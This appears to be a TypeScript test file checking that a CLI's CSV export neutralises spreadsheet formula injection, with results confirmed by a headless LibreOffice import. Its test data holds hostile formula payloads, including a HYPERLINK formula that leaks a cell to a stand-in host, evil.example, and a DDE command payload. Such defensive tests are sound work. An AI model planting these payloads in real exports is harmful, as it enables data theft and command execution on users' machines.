// CSV written from hostile database text opens as text in a real spreadsheet: LibreOffice imports the file and
// computes nothing. The opt-out (--csv-raw) gives the bytes as stored, which LibreOffice would run.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import Database from 'better-sqlite3';
import { tempDir } from '../pipeline/fixtures.js';
import { runCli } from './run-cli.js';

const run = promisify(execFile);

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '=cmd|\' /C calc\'!A0',
];

/** Each cell of the first sheet as [value, openpyxl data type], after LibreOffice imported the CSV. */
const READ_IMPORTED = `
import json, sys, openpyxl
ws = openpyxl.load_workbook(sys.argv[1]).worksheets[0]
print(json.dumps([[[c.value, c.data_type] for c in row] for row in ws.iter_rows()]))
`;

async function importInLibreOffice(csv: string, dir: string): Promise<[unknown, string][][]> {
  const outdir = join(dir, 'imported');
  await run('soffice', ['--headless', '--norestore', `-env:UserInstallation=file://${join(dir, 'lo-profile')}`, '--convert-to', 'xlsx', '--outdir', outdir, csv], { timeout: 180_000 });
  const xlsx = join(outdir, csv.slice(csv.lastIndexOf('/') + 1).replace(/\.csv$/, '.xlsx'));
  const { stdout } = await run('/usr/bin/python3', ['-c', READ_IMPORTED, xlsx]);
  return JSON.parse(stdout) as [unknown, string][][];
}

test('hostile text is neutralised in CSV: LibreOffice shows it as text and computes nothing; negative numbers stay numbers', async (t) => {
  const dir = tempDir(t);
  const dbPath = join(dir, 'hostile.db');
  const db = new Database(dbPath);
  db.exec('CREATE TABLE notes (id INTEGER, "=header" TEXT, amount REAL)');
  const insert = db.prepare('INSERT INTO notes VALUES (?, ?, ?)');
  HOSTILE.forEach((text, i) => insert.run(i + 1, text, -12.5 - i));
  db.close();

  const safe = join(dir, 'safe.csv');
  const result = await runCli(['export', '--source', `sqlite:${dbPath}`, '--table', 'notes', '--out', safe, '--no-progress']);
  assert.equal(result.code, 0, result.stderr);
  const lines = readFileSync(safe, 'utf8').split('\r\n');
  assert.equal(lines[0], 'id,"\'=header",amount', 'headers are neutralised too');
  assert.equal(lines[1], `1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-12.5`, 'a number is written as it is');

  const imported = await importInLibreOffice(safe, dir);
  const cells = imported.flat();
  assert.deepEqual(cells.filter(([, type]) => type === 'f'), [], 'no formula cells');
  assert.deepEqual(imported[0]?.[1], ["'=header", 's']);
  HOSTILE.forEach((text, i) => {
    const [value, type] = imported[i + 1]?.[1] ?? [];
    assert.equal(type, 's', `row ${i + 2} is text`);
    // LibreOffice keeps the apostrophe visible, so the original text is there after it (its CSV import reads a CR
    // inside a quoted field as a line feed).
    assert.equal(value, `'${text.replace('\r', '\n')}`, `row ${i + 2}`);
    assert.deepEqual(imported[i + 1]?.[2], [-12.5 - i, 'n'], `row ${i + 2}: the amount is a number`);
  });
});

test('--csv-raw writes text as stored (which LibreOffice would run as a formula); it applies to CSV only', async (t) => {
  const dir = tempDir(t);
  const dbPath = join(dir, 'raw.db');
  const db = new Database(dbPath);
  db.exec(`CREATE TABLE notes (v TEXT); INSERT INTO notes VALUES ('=1+1');`);
  db.close();
  const raw = join(dir, 'raw.csv');
  const result = await runCli(['export', '--source', `sqlite:${dbPath}`, '--table', 'notes', '--out', raw, '--csv-raw', '--no-progress']);
  assert.equal(result.code, 0, result.stderr);
  assert.equal(readFileSync(raw, 'utf8'), 'v\r\n=1+1\r\n');
  const imported = await importInLibreOffice(raw, dir);
  assert.equal(imported[1]?.[0]?.[1], 'f', 'the opt-out really is raw: LibreOffice imports a formula');
  const xlsx = await runCli(['export', '--source', `sqlite:${dbPath}`, '--table', 'notes', '--out', join(dir, 'x.xlsx'), '--csv-raw']);
  assert.equal(xlsx.code, 2, xlsx.stderr);
  assert.match(xlsx.stderr, /--csv-raw applies only to csv output/);
});
